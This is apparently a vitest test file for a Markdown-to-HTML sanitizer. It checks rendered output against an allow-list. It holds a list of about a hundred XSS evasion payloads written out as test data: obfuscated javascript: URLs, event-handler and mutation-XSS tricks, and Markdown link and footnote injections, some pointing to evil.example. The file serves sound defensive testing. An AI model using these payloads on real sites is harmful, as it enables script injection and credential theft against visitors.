import { describe, expect, it } from 'vitest';
import { elementsOf } from '../../test/parsed.ts';
import { renderMarkdown, withPictures } from './index.ts';

/** Everything that may come out, written again on purpose: a slip in the module must not pass here. */
const allowedAttributes: Record<string, readonly string[]> = {
  a: [
    'href',
    'title',
    'id',
    'data-footnote-ref',
    'data-footnote-backref',
    'aria-describedby',
    'aria-label',
  ],
  abbr: ['title'],
  div: ['class', 'role', 'tabindex', 'aria-label'],
  h2: ['id', 'class'],
  h3: ['id'],
  h4: ['id'],
  h5: ['id'],
  h6: ['id'],
  img: ['src', 'alt', 'title'],
  li: ['id'],
  ol: ['start'],
  section: ['class', 'data-footnotes'],
  td: ['class', 'colspan', 'rowspan'],
  th: ['class', 'scope', 'colspan', 'rowspan'],
  time: ['datetime'],
};
const allowedElements = new Set([
  ...Object.keys(allowedAttributes),
  ...['p', 'br', 'hr', 'ul', 'dl', 'dt', 'dd', 'blockquote', 'footer', 'cite', 'q', 'em', 'strong'],
  ...['i', 'b', 's', 'del', 'ins', 'sub', 'sup', 'small', 'code', 'pre', 'kbd', 'mark'],
  ...['table', 'caption', 'thead', 'tbody', 'tfoot', 'tr'],
]);
const allowedProtocols = ['http:', 'https:', 'mailto:', 'tel:'];

/** Whether a browser that follows `address` stays with what a link may do. */
function isAllowedAddress(address: string): boolean {
  const { protocol, host } = new URL(address, 'https://here.invalid/');
  const staysHere = host === 'here.invalid';
  return allowedProtocols.includes(protocol) && (staysHere || /^[a-z]+:/.test(address));
}

/** What a browser would find in `html` that the allow-list does not know. */
function harmIn(html: string): string[] {
  return elementsOf(html).flatMap(({ name, attributes }) => {
    if (!allowedElements.has(name)) return [`<${name}>`];
    return Object.entries(attributes).flatMap(([attribute, value]) => {
      if (!(allowedAttributes[name] ?? []).includes(attribute)) return [`<${name} ${attribute}>`];
      const isAddress = attribute === 'href' || attribute === 'src';
      return isAddress && !isAllowedAddress(value) ? [`<${name} ${attribute}="${value}">`] : [];
    });
  });
}

/** Well-known ways to smuggle a script into HTML or Markdown (OWASP's evasion list and its kin). */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/src=data:,alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>p{background:url("javascript:alert(1)")}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<div style="width:expression(alert(1))">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1) target=_blank ping="https://evil.example/">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<form action="https://evil.example/"><input type=password></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<x onclick=alert(1)>x</x>',
  '<p id="comments" class="evil" role="alert" contenteditable>x</p>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x](https://good.example/ "title\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x" onerror="alert(1)](https://good.example/x.png)',
  '![x](https://good.example/x.png"onerror="alert(1))',
  '![x](https://good.example/x.png "t\\" onerror=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |',
  '| a" onfocus="alert(1) | b |\n|---|---|\n| 1 | 2 |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  'x[^"onmouseover="alert(1)]\n\n[^"onmouseover="alert(1)]: note',
  'x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: note',
  '> quotation\n>\n> — <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '## x <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
];

describe('Markdown that attacks its reader', () => {
  it.each(attacks)('comes out harmless: %j', (attack) => {
    expect(harmIn(renderMarkdown(attack))).toEqual([]);
  });

  it.each(attacks)('comes out harmless in the middle of a text: %j', (attack) => {
    expect(harmIn(renderMarkdown(`Before *${attack}* after.\n\n${attack}\n\nThe end.`))).toEqual(
      [],
    );
  });

  it('comes out harmless with its pictures in place', () => {
    const html = renderMarkdown(
      '![x" onerror="alert(1)](/uploads/a.jpg "<img src=x onerror=alert(1)> Credit: \\"><script>alert(1)</script>")',
    );
    const withPicture = withPictures(html, (_url, alt) => ({
      src: '/media/a.jpg',
      sources: [],
      width: 4,
      height: 3,
      alt,
    }));
    const found = elementsOf(withPicture).map(({ name, attributes }) => [
      name,
      ...Object.keys(attributes),
    ]);
    expect(found).toEqual([
      ['figure'],
      ['picture'],
      ['img', 'src', 'alt', 'width', 'height', 'loading', 'decoding'],
      ['figcaption'],
      ['span', 'class'],
      ['span', 'class'],
    ]);
  });

  it('is seen by this test: the list of what may come out refuses a script', () => {
    const harm =
      '<p onclick="x"><script>b</script><a href=" java\tscript:c">d</a><a href="//e.f">g</a>';
    expect(harmIn(harm)).toEqual([
      '<p onclick>',
      '<script>',
      '<a href=" java\tscript:c">',
      '<a href="//e.f">',
    ]);
  });
});

describe('Markdown that means well', () => {
  it('keeps what an article needs', () => {
    const html = renderMarkdown(
      '## Head\n\n**b** *i* ~~d~~ `c` H<sub>2</sub>O <abbr title="Local Government Association">LGA</abbr>\n\n1. one\n\n<dl><dt>t</dt><dd>d</dd></dl>\n\n---\n\n[link](https://example.org/ "title") <a href="mailto:desk@precept.example">mail</a>',
    );
    expect(elementsOf(html).map((element) => element.name)).toEqual([
      ...['h2', 'p', 'strong', 'em', 'del', 'code', 'sub', 'abbr', 'ol', 'li', 'dl', 'dt', 'dd'],
      ...['hr', 'p', 'a', 'a'],
    ]);
    expect(html).toContain('<a href="https://example.org/" title="title">link</a>');
    expect(html).toContain('<abbr title="Local Government Association">LGA</abbr>');
  });

  it('keeps the words of an element that may not stand', () => {
    expect(renderMarkdown('<center>Words</center>')).toContain('Words');
  });
});
